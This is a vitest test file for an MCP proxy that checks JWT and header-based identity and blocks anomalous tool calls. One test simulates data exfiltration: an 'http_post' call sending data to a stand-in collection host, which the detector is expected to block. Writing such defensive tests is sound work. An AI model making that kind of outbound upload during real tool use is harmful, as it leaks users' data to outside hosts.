// The standalone proxy against real upstream MCP servers (the bundled demo server, spawned over stdio
// and over HTTP), with identities from verified JWTs (secret and JWKS) or a configured trusted header.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createServer, type Server as HttpServer } from "node:http";
import { spawn, type ChildProcess } from "node:child_process";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { SignJWT, exportJWK, generateKeyPair } from "jose";
import { McpError } from "@modelcontextprotocol/sdk/types.js";
import { createDetector } from "../../js/adapter/node/index.js";
import { startProxy } from "../../js/proxy/index.js";
import { BLOCKED_ERROR_CODE } from "../../js/adapter/mcp-sdk/index.js";
import type { RunningServer } from "../../js/adapter/contextforge/index.js";
import type { Decision } from "../../js/detector.js";
import { httpClient } from "./helpers.js";

const DEMO = join(__dirname, "..", "..", "examples", "demo-server", "server.mjs");
const STDIO_UPSTREAM = `"${process.execPath}" "${DEMO}"`;
const SECRET = "proxy-test-secret-0123456789abcdef";
const CONFIG = { action: "block" as const, minCalls: 5, learningWindowSeconds: 0, tenantMinCalls: 5, tenantLearningWindowSeconds: 0, blockThreshold: 0.55, warnThreshold: 0.3, offHoursStart: 0, offHoursEnd: 0 };

const hs = (claims: Record<string, unknown>, secret = SECRET, exp: string | number = "10m") =>
  new SignJWT(claims).setProtectedHeader({ alg: "HS256" }).setIssuedAt().setExpirationTime(exp).sign(new TextEncoder().encode(secret));

const texts = (r: any): string => (r.content as Array<{ text: string }>).map((c) => c.text).join("\n");

describe("proxy to a stdio upstream, JWT with a shared secret", () => {
  let proxy: RunningServer;
  let now = Date.UTC(2026, 0, 5, 10);
  const decisions: Decision[] = [];
  beforeAll(async () => {
    proxy = await startProxy({ upstream: STDIO_UPSTREAM, stderr: "ignore", detector: createDetector(CONFIG), auth: { jwtSecret: SECRET }, clock: () => now, onDecision: (d) => decisions.push(d) });
  });
  afterAll(() => proxy?.close());

  it("refuses requests without a JWT, with a bad signature, or expired", async () => {
    await expect(httpClient(proxy.url)).rejects.toThrow();
    await expect(httpClient(proxy.url, { authorization: `Bearer ${await hs({ sub: "alice" }, "another-secret-0123456789abcdef")}` })).rejects.toThrow();
    await expect(httpClient(proxy.url, { authorization: `Bearer ${await hs({ sub: "alice" }, SECRET, Math.floor(Date.now() / 1000) - 60)}` })).rejects.toThrow();
    const r = await fetch(proxy.url, { method: "POST", headers: { authorization: "Bearer not.a.jwt", "content-type": "application/json" }, body: "{}" });
    expect(r.status).toBe(401);
    expect((await r.json()).error.message).toMatch(/invalid token/);
  });

  it("forwards everything, and blocks the anomalous call before it reaches the upstream", async () => {
    const alice = await httpClient(proxy.url, { authorization: `Bearer ${await hs({ email: "alice@acme.example", tenant: "acme" })}` });
    expect(alice.getServerVersion()?.name).toBe("toolwatch-demo");
    const { tools } = await alice.listTools();
    expect(tools.map((t) => t.name)).toContain("http_post");
    // an upstream error result passes through as a result (and after() records it)
    const missing = await alice.callTool({ name: "read_file", arguments: { path: "/nope" } });
    expect(missing.isError).toBe(true);
    expect(texts(missing)).toBe("no such file: /nope");
    for (let i = 0; i < 20; i++) {
      now += 120_000;
      const r = await alice.callTool({ name: "read_file", arguments: { path: i % 2 ? "/projects/roadmap.md" : "/projects/standup.md" } });
      expect(texts(r)).toMatch(/Q3|Yesterday/);
    }
    now += 120_000;
    const err = await alice.callTool({ name: "http_post", arguments: { url: "https://collect.vendor-secure.example/upload", data: "x" } }).catch((e) => e);
    expect(err).toBeInstanceOf(McpError);
    expect(err.code).toBe(BLOCKED_ERROR_CODE);
    expect(err.message).toMatch(/toolwatch blocked "http_post".*UNSEEN_TOOL/);
    expect(err.data.toolwatch.action).toBe("block");
    expect(decisions.at(-1)!.identity).toEqual({ principal: "alice@acme.example", tenant: "acme" });
    // a session keeps working after a block
    now += 120_000;
    expect(texts(await alice.callTool({ name: "read_file", arguments: { path: "/projects/roadmap.md" } }))).toMatch(/Q3/);
    await alice.close();
  });

  it("relays resources, prompts and pings untouched", async () => {
    const c = await httpClient(proxy.url, { authorization: `Bearer ${await hs({ sub: "rita", tenant: "acme" })}` });
    const before = decisions.length;
    await c.ping();
    const { resources } = await c.listResources();
    expect(resources.map((r) => r.uri)).toEqual(["file:///projects/roadmap.md"]);
    const res = await c.readResource({ uri: "file:///projects/roadmap.md" });
    expect((res.contents[0] as { text: string }).text).toMatch(/^Q3/);
    const prompt = await c.getPrompt({ name: "summarise", arguments: { path: "/x" } });
    expect((prompt.messages[0]!.content as { text: string }).text).toBe("Summarise /x");
    expect(decisions.length).toBe(before); // only tools/call is scored
    await c.close();
  });

  it("each verified principal has its own baseline", async () => {
    const bob = await httpClient(proxy.url, { authorization: `Bearer ${await hs({ sub: "bob", tenant: "globex" })}` });
    now += 120_000;
    await bob.callTool({ name: "http_post", arguments: { url: "https://x.example", data: "y" } });
    expect(decisions.at(-1)!.identity).toEqual({ principal: "bob", tenant: "globex" });
    expect(decisions.at(-1)!.action).not.toBe("block");
    await bob.close();
  });

  it("serves /health and /metrics", async () => {
    const base = proxy.url.replace(/\/mcp$/, "");
    expect(await (await fetch(`${base}/health`)).json()).toEqual({ status: "healthy" });
    const m = await (await fetch(`${base}/metrics`)).text();
    expect(m).toMatch(/toolwatch_decisions_total\{action="block"\} 1/);
  });
});

describe("proxy to an HTTP upstream, JWT from a JWKS", () => {
  let upstream: ChildProcess;
  let jwks: HttpServer;
  let proxy: RunningServer;
  let privateKey: CryptoKey;
  beforeAll(async () => {
    upstream = spawn(process.execPath, [DEMO, "--http", "0"], { stdio: ["ignore", "pipe", "inherit"] });
    const upstreamUrl = await new Promise<string>((resolve, reject) => {
      upstream.stdout!.on("data", (b) => {
        const m = /listening (\S+)/.exec(String(b));
        if (m) resolve(m[1]!);
      });
      upstream.once("exit", (c) => reject(new Error(`demo server exited ${c}`)));
    });
    const kp = await generateKeyPair("RS256");
    privateKey = kp.privateKey as CryptoKey;
    const jwk = { ...(await exportJWK(kp.publicKey)), kid: "k1", alg: "RS256", use: "sig" };
    jwks = createServer((_, res) => res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ keys: [jwk] })));
    await new Promise<void>((r) => jwks.listen(0, "127.0.0.1", r));
    const jwksUrl = `http://127.0.0.1:${(jwks.address() as AddressInfo).port}/jwks.json`;
    proxy = await startProxy({ upstream: upstreamUrl, detector: createDetector(CONFIG), auth: { jwksUrl, issuer: "https://idp.example", audience: "mcp", tenantClaim: "org" } });
  });
  afterAll(async () => {
    await proxy?.close();
    jwks?.close();
    upstream?.kill();
  });

  const rs = (claims: Record<string, unknown>, iss = "https://idp.example") =>
    new SignJWT(claims).setProtectedHeader({ alg: "RS256", kid: "k1" }).setIssuer(iss).setAudience("mcp").setExpirationTime("5m").sign(privateKey);

  it("accepts a token signed by a JWKS key and forwards to the HTTP upstream", async () => {
    const c = await httpClient(proxy.url, { authorization: `Bearer ${await rs({ sub: "dana", org: "initech" })}` });
    const r = await c.callTool({ name: "search_docs", arguments: { query: "invoices" } });
    expect(texts(r)).toBe('3 results for "invoices"');
    await c.close();
  });

  it("refuses a token from the wrong issuer", async () => {
    await expect(httpClient(proxy.url, { authorization: `Bearer ${await rs({ sub: "dana" }, "https://evil.example")}` })).rejects.toThrow();
  });
});

describe("trusted header identity", () => {
  let proxy: RunningServer;
  beforeAll(async () => {
    proxy = await startProxy({ upstream: STDIO_UPSTREAM, stderr: "ignore", detector: createDetector(CONFIG), auth: { trustedHeader: "x-authenticated-user", trustedTenantHeader: "x-authenticated-tenant" } });
  });
  afterAll(() => proxy?.close());

  it("uses the header when configured and refuses calls without it", async () => {
    const c = await httpClient(proxy.url, { "x-authenticated-user": "erin", "x-authenticated-tenant": "acme" });
    expect(texts(await c.callTool({ name: "list_files", arguments: { folder: "/projects" } }))).toContain("/projects/roadmap.md");
    await c.close();
    await expect(httpClient(proxy.url)).rejects.toThrow();
  });

  it("will not listen off loopback with only a trusted header, and needs an identity source", async () => {
    await expect(startProxy({ upstream: STDIO_UPSTREAM, host: "0.0.0.0", detector: createDetector(CONFIG), auth: { trustedHeader: "x-user" } })).rejects.toThrow(/not loopback/);
    await expect(startProxy({ upstream: STDIO_UPSTREAM, detector: createDetector(CONFIG), auth: {} })).rejects.toThrow(/identity source/);
  });

  it("answers a clear error when the upstream cannot start", async () => {
    const bad = await startProxy({ upstream: "/nonexistent/mcp-server --x", stderr: "ignore", detector: createDetector(CONFIG), auth: { anonymous: true } });
    try {
      await expect(httpClient(bad.url)).rejects.toThrow(/upstream|ENOENT|spawn/i);
      // and the proxy still answers
      expect((await fetch(bad.url.replace(/\/mcp$/, "/health"))).status).toBe(200);
    } finally {
      await bad.close();
    }
  });
});
